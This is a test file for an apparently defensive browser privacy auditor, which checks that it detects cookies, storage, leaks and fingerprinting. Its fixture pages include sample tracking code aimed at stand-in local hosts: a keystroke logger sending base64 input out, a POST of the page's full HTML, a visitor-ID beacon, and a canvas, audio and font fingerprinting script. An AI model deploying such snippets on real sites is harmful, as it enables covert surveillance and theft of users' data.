import { createHash } from 'node:crypto';
import { once } from 'node:events';
import type { IncomingMessage, Server, ServerResponse } from 'node:http';
import { createServer } from 'node:http';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { AuditBrowser } from '../src/browser/open.ts';
import { openBrowser } from '../src/browser/open.ts';
import type { Evidence } from '../src/collect/observation.ts';
import { createRecorder } from '../src/collect/recorder.ts';
import { createVisitor } from '../src/states/visitor.ts';

const settling = { quiet: 100, least: 100, most: 1500 };
let browser: AuditBrowser;
let server: Server;
let port = 0;

const pages: { readonly [path: string]: (port: number) => string } = {
  '/cookies': () => '<script src="/set.js"></script>',
  '/stores': () => `<script>
    // A page that hides what it stores from its own world.
    sessionStorage.setItem('tab', 'secret-value');
    indexedDB.open('database');
    caches.open('cached');
    Object.keys = () => [];
    Storage.prototype.key = () => null;
    indexedDB.databases = async () => [];
  </script>`,
  '/assigned': () => `<script>
    localStorage.setItem('called', 'secret-value');
    localStorage.assigned = 'secret-value';
    sessionStorage['bracketed'] = 'secret-value';
  </script>`,
  '/probe': () => '<script src="/probe.js"></script>',
  '/embeds': (number) => `<img src="http://other.localhost:${number}/pixel.gif"><script src="/load.js"></script>`,
  '/late': () => `<div style="height: 4000px">Long</div><script>
    const visits = Number(sessionStorage.getItem('visits') ?? 0) + 1;
    sessionStorage.setItem('visits', visits);
    const store = (name) => { document.cookie = name + '=1; path=/'; };
    store('visit_' + visits);
    setTimeout(() => fetch('/data').then(() => setTimeout(() => store('after_seconds'), 3000)), 8000);
    addEventListener('scroll', () => store('on_scroll'));
    addEventListener('mousemove', () => store('on_mouse'));
    requestIdleCallback(() => store('on_idle'));
    addEventListener('visibilitychange', () => { if (document.visibilityState === 'hidden') navigator.sendBeacon('/hidden'); });
    addEventListener('pagehide', () => { store('on_leaving'); navigator.sendBeacon('/left'); });
  </script><iframe srcdoc="<script>setTimeout(() => { document.cookie = 'in_frame=1; path=/'; }, 5000)</script>"></iframe>`,
  '/measures': () =>
    '<canvas id="chart" width="200" height="100"></canvas><script src="/chart.js"></script><script src="/measure.js"></script>',
  '/shares': (
    number,
  ) => `<p>Nobody else needs to be told these words of the page.</p><input name="email"><img alt="" src="http://other.localhost:${number}/sets-id.gif">
    <script>
      name = 'a name for the tab';
      localStorage.setItem('visitor', '83a7f04c2b9d');
      const other = 'http://other.localhost:${number}';
      navigator.sendBeacon(other + '/body', btoa(JSON.stringify({ id: localStorage.getItem('visitor') })));
      new Image().src = 'http://third.localhost:${number}/match?partner=5c1e77a0b4f2d9';
      document.querySelector('input').addEventListener('input', (event) => new Image().src = other + '/keys?k=' + btoa(event.target.value));
      fetch(other + '/replay', { method: 'POST', mode: 'no-cors', body: document.body.innerHTML });
      const socket = new WebSocket('ws://other.localhost:${number}/socket');
      new Worker('/worker.js');
      navigator.serviceWorker.register('/service.js');
    </script>`,
  '/opaque': (number) => `<img src="http://other.localhost:${number}/page-as-image">`,
};

const scripts: { readonly [path: string]: (port: number) => string } = {
  '/set.js': () =>
    "\n\n  document.cookie = 'from_script=secret-value; path=/; max-age=600';\n  cookieStore.set('from_store', 'secret-value');\n  localStorage.setItem('kept', 'secret-value');",
  '/worker.js': () => "fetch('/from-worker'); indexedDB.open('of_worker');",
  '/service.js': () => "fetch('/from-service'); oninstall = (event) => event.waitUntil(caches.open('of_service'));",
  '/chart.js': () => `
    const chart = document.querySelector('#chart');
    const pen = chart.getContext('2d');
    pen.font = '12px sans-serif';
    for (const label of ['January', 'February', 'March', 'Visitors', '0123456789']) pen.fillText(label, 10, 10, pen.measureText(label).width);
    chart.toDataURL();`,
  '/measure.js': () => `
    const canvas = document.createElement('canvas');
    const pen2 = canvas.getContext('2d');
    pen2.fillText('Cwm fjordbank glyphs vext quiz', 2, 15);
    canvas.toDataURL();
    const span = document.body.appendChild(document.createElement('span'));
    for (let index = 0; index < 30; index += 1) { span.style.fontFamily = 'Family' + index; span.offsetWidth; }
    const audio = new OfflineAudioContext(1, 5000, 44100);
    audio.createOscillator().connect(audio.destination);
    audio.startRendering().then((buffer) => buffer.getChannelData(0));
    for (const one of ['userAgent', 'platform', 'vendor', 'language', 'languages', 'hardwareConcurrency', 'deviceMemory', 'maxTouchPoints', 'plugins', 'doNotTrack', 'cookieEnabled']) navigator[one];
    for (const one of ['width', 'height', 'colorDepth']) screen[one];
    new Date().getTimezoneOffset();`,
  '/load.js': (number) => `\n  fetch('http://other.localhost:${number}/data', { mode: 'no-cors' });`,
  '/probe.js': () => `
    const setter = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').set;
    const globals = Object.getOwnPropertyNames(globalThis);
    document.title = JSON.stringify({ globals, name: setter.name, length: setter.length, native: /\\[native code\\]/.test(Function.prototype.toString.call(setter)),
      agent: (() => { try { Object.getOwnPropertyDescriptor(Navigator.prototype, 'userAgent').get.call({}); } catch (error) { return error.stack.split('\\n').length; } })(),
      draw: CanvasRenderingContext2D.prototype.fillText.name + CanvasRenderingContext2D.prototype.fillText.length,
      item: Storage.prototype.setItem.name + Storage.prototype.setItem.length + /\\[native code\\]/.test(Storage.prototype.setItem + '') });`,
};

function answer(request: IncomingMessage, response: ServerResponse): void {
  const path = (request.url ?? '').split('?')[0] ?? '';
  if (path === '/hop') {
    const set = ['hop=1; Path=/; HttpOnly', 'foreign=1; Domain=elsewhere.example', 'gone=1; Path=/; Max-Age=0'];
    response.writeHead(302, { location: '/plain', 'set-cookie': set }).end();
  } else if (path === '/page-as-image') {
    response
      .writeHead(200, {
        'content-type': 'text/html',
        'x-content-type-options': 'nosniff',
        'set-cookie': 'opaque=1; Path=/; Secure; SameSite=None',
      })
      .end('<p>');
  } else if (path === '/sets-id.gif') {
    response.writeHead(204, { 'set-cookie': 'uid=5c1e77a0b4f2d9; Path=/; Secure; SameSite=None' }).end();
  } else if (path === '/pixel.gif') {
    response.writeHead(200, { 'content-type': 'image/gif', 'set-cookie': 'pixel=1; Path=/; Secure; SameSite=None; Max-Age=600' }).end();
  } else if (path === '/guarded') {
    const body = `<!doctype html><link rel="icon" href="data:,"><img src="http://other.localhost:${port}/pixel.gif"><img src="/to-pixel"><script src="/set.js"></script>`;
    response
      .writeHead(200, { 'content-type': 'text/html', 'content-security-policy': "default-src 'self'; img-src 'self' data:" })
      .end(body);
  } else if (path === '/to-pixel') {
    response.writeHead(302, { location: `http://other.localhost:${port}/pixel.gif` }).end();
  } else if (scripts[path] !== undefined) {
    response.writeHead(200, { 'content-type': 'text/javascript' }).end(scripts[path](port));
  } else {
    response
      .writeHead(200, { 'content-type': 'text/html' })
      .end(`<!doctype html><link rel="icon" href="data:,"><title>Page</title>${pages[path]?.(port) ?? ''}`);
  }
}

beforeAll(async () => {
  browser = await openBrowser();
  server = createServer(answer);
  server.on('upgrade', (request, socket) => {
    const accept = createHash('sha1')
      .update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
      .digest('base64');
    const cookie = 'Set-Cookie: shook=1; Path=/; Secure; SameSite=None';
    socket.end(
      `HTTP/1.1 101 Switching\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n${cookie}\r\n\r\n`,
    );
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  port = typeof address === 'object' && address !== null ? address.port : 0;
});

afterAll(async () => {
  await browser.close();
  server.closeAllConnections();
  server.close();
});

async function visit(path: string, look?: (title: string) => void): Promise<Evidence> {
  const visitor = await createVisitor({ browser, state: 'S0', locale: 'en', budget: 20_000, settling });
  expect(await visitor.open(`http://site.localhost:${port}${path}`)).toBe(true);
  look?.(await visitor.page().title());
  expect(visitor.problems).toEqual([]);
  return await visitor.leave();
}

test('A10 A11 an HttpOnly cookie of a redirect is attributed to its hop; refused and deleted ones are no facts', async () => {
  const evidence = await visit('/hop');
  expect(evidence.snapshots.at(-1)?.cookies.map((cookie) => cookie.name)).toEqual(['hop']);
  expect(evidence.snapshots.at(-1)?.cookies[0]).toMatchObject({ httpOnly: true, domain: 'site.localhost', path: '/', expires: null });
  const write = evidence.cookieWrites.find(({ line }) => line.startsWith('hop='));
  expect(write?.setter).toMatchObject({
    kind: 'http-response',
    url: `http://site.localhost:${port}/hop`,
    method: 'GET',
    status: 302,
    redirectTo: '/plain',
  });
  expect(evidence.refused).toMatchObject([{ name: 'foreign', url: `http://site.localhost:${port}/hop`, reasons: ['InvalidDomain'] }]);
});

test('A12 A16 script writes are told with script, line and column, and without values', async () => {
  const evidence = await visit('/cookies');
  const byApi = new Map(evidence.cookieWrites.map((write) => [write.api, write]));
  expect(byApi.get('document.cookie')).toMatchObject({
    line: 'from_script=; path=/; max-age=600',
    setter: { kind: 'script', url: `http://site.localhost:${port}/set.js`, line: 3, column: 19 },
  });
  expect(byApi.get('cookieStore')).toMatchObject({ setter: { kind: 'script', url: `http://site.localhost:${port}/set.js`, line: 4 } });
  expect(evidence.storageWrites).toMatchObject([
    { store: 'local', name: 'kept', origin: `http://site.localhost:${port}`, setter: { kind: 'script', line: 5 } },
  ]);
  expect(
    evidence.snapshots
      .at(-1)
      ?.cookies.map((cookie) => cookie.name)
      .toSorted(),
  ).toEqual(['from_script', 'from_store']);
  expect(JSON.stringify(evidence)).not.toContain('secret-value');
});

test('A12 a name that was assigned without a call is told with its page', async () => {
  const evidence = await visit('/assigned');
  const page = `http://site.localhost:${port}/assigned`;
  const told = evidence.storageWrites.map(({ store, name, setter }) => [
    store,
    name,
    setter.kind,
    setter.url,
    'line' in setter && setter.line,
  ]);
  expect(new Set(told)).toEqual(
    new Set([
      ['local', 'called', 'script', page, 2],
      ['local', 'assigned', 'script', page, null],
      ['session', 'bracketed', 'script', page, null],
    ]),
  );
  expect(told).toHaveLength(3);
  expect(JSON.stringify(evidence)).not.toContain('secret-value');
});

test('A13 the names in every store are read, whatever the page did to its own functions', async () => {
  const evidence = await visit('/stores');
  const names = evidence.snapshots.at(-1)?.names.map(({ store, name }) => `${store} ${name}`);
  expect(names?.toSorted()).toEqual(['cache cached', 'indexed-db database', 'session tab']);
});

test('A14 requests are told with their use and cause, markup or script', async () => {
  const evidence = await visit('/embeds');
  const pixel = evidence.requests.find(({ url }) => url.endsWith('/pixel.gif'));
  expect(pixel).toMatchObject({
    as: 'image',
    method: 'GET',
    status: 200,
    initiator: { kind: 'parser', place: { url: `http://site.localhost:${port}/embeds`, line: 1 } },
  });
  const data = evidence.requests.find(({ url }) => url.endsWith('/data'));
  expect(data).toMatchObject({
    as: 'connect',
    initiator: { kind: 'script', place: { url: `http://site.localhost:${port}/load.js`, line: 2 } },
  });
  expect(evidence.requests.find(({ url }) => url.endsWith('/embeds'))).toMatchObject({ as: 'document' });
  const third = evidence.snapshots.at(-1)?.cookies.find(({ name }) => name === 'pixel');
  expect(third).toMatchObject({ domain: 'other.localhost', secure: true, sameSite: 'none' });
});

test('A17 a request that a Content-Security-Policy stops is marked as kept back, a redirect to it too', async () => {
  const evidence = await visit('/guarded');
  const facts = evidence.requests.map(({ url, blocked }) => `${new URL(url).hostname}${new URL(url).pathname} ${blocked}`);
  expect(new Set(facts)).toEqual(
    new Set([
      'site.localhost/guarded false',
      'site.localhost/set.js false',
      'site.localhost/to-pixel false',
      'other.localhost/pixel.gif true',
    ]),
  );
});

test('A20 a redirect that a Content-Security-Policy stops does not hold its page up', async () => {
  const context = await browser.newContext();
  const recorder = await createRecorder(context, 'S0');
  const page = await recorder.openPage();
  await page.goto(`http://site.localhost:${port}/guarded`);
  expect(await recorder.rest({ quiet: 150, least: 150, most: 4000 })).toBe(true);
  await context.close();
});

test('A166 A167 what comes late is seen, and the tab keeps what is its own', async () => {
  const visitor = await createVisitor({ browser, state: 'S0', locale: 'en', budget: 30_000, settling, stays: 'everywhere' });
  const late = `http://site.localhost:${port}/late`;
  expect(await visitor.open(late)).toBe(true);
  expect(await visitor.open(late)).toBe(true);
  const evidence = await visitor.leave();
  expect(visitor.problems).toEqual([]);
  const names = (evidence.snapshots.at(-1)?.cookies ?? []).map(({ name }) => name);
  expect(names.toSorted()).toEqual([
    'after_seconds',
    'in_frame',
    'on_idle',
    'on_leaving',
    'on_mouse',
    'on_scroll',
    'visit_1',
    // The second page was opened in another tab, with what the first one had.
    'visit_2',
  ]);
  const paths = new Set(evidence.requests.map(({ url }) => new URL(url).pathname));
  expect(paths).toEqual(new Set(['/late', '/data', '/hidden', '/left']));
  const brought = evidence.storageWrites.filter(({ name }) => name === 'visits');
  expect(brought.map(({ setter }) => 'line' in setter && setter.line !== null)).toEqual([true, true]);
});

test('A11 a cookie on a response that the page may not read is attributed too', async () => {
  const evidence = await visit('/opaque');
  expect(evidence.snapshots.at(-1)?.cookies.map(({ name }) => name)).toContain('opaque');
  const write = evidence.cookieWrites.find(({ line }) => line.startsWith('opaque='));
  expect(write?.setter).toMatchObject({ kind: 'http-response', url: `http://other.localhost:${port}/page-as-image` });
});

test('A170 A171 A172 A175 A178 A179 values that go elsewhere, words typed and read, beacons, workers and sockets are told', async () => {
  const options = { browser, state: 'S0', locale: 'en', budget: 30_000, settling, stays: 'everywhere', types: true } as const;
  const visitor = await createVisitor(options);
  expect(await visitor.open(`http://site.localhost:${port}/shares`)).toBe(true);
  const evidence = await visitor.leave();
  expect(visitor.problems).toEqual([]);
  const leaks = (evidence.leaks ?? []).map(
    ({ owner, to, through, form, isSync }) => `${owner.kind} ${owner.name} ${to} ${through} ${form} ${isSync}`,
  );
  expect(leaks).toContain('local visitor other.localhost body base64 false');
  expect(leaks).toContain('cookie uid third.localhost url plain true');
  expect(leaks).toContain('typed email other.localhost url base64 false');
  expect(leaks).toContain('page text other.localhost body plain false');
  expect(evidence.leaks?.find(({ owner }) => owner.name === 'uid')?.initiator?.url).toBe(`http://site.localhost:${port}/shares`);
  expect(evidence.beacons?.map(({ kind, url }) => `${kind} ${new URL(url).pathname}`)).toEqual(
    expect.arrayContaining(['beacon /body', 'pixel /sets-id.gif']),
  );
  expect(evidence.tabNames?.[0]).toMatchObject({ origin: `http://site.localhost:${port}`, length: 18 });
  const paths = evidence.requests.map(({ url }) => new URL(url).pathname);
  expect(paths).toEqual(expect.arrayContaining(['/from-worker', '/service.js', '/from-service', '/socket']));
  const names = evidence.snapshots.flatMap((snapshot) => snapshot.names.map(({ store, name }) => `${store} ${name}`));
  expect(names).toEqual(expect.arrayContaining(['indexed-db of_worker', 'service-worker /service.js', 'cache of_service']));
  expect(evidence.snapshots.at(-1)?.cookies.map(({ name }) => name)).toContain('shook');
  expect(evidence.requests.find(({ url }) => url.endsWith('/socket'))).toMatchObject({ as: 'connect' });
  expect(JSON.stringify(evidence)).not.toMatch(/83a7f04c2b9d|Nobody else/);
});

test('A177 a script that measures is told by what it read, a chart is not', async () => {
  const evidence = await visit('/measures');
  const told = evidence.fingerprints?.map(({ kind, script }) => `${kind} ${new URL(script).pathname}`);
  expect(told?.toSorted()).toEqual(['audio /measure.js', 'canvas /measure.js', 'entropy /measure.js', 'fonts /measure.js']);
});

test('A15 a page cannot tell the recorder by globals, names, lengths or texts of functions', async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`http://site.localhost:${port}/probe`);
  const alone: unknown = JSON.parse(await page.title());
  let title = '';
  await visit('/probe', (seen) => {
    title = seen;
  });
  expect(JSON.parse(title)).toEqual(alone);
  expect(alone).toMatchObject({ name: 'set cookie', length: 1, native: true, item: 'setItem2true' });
});
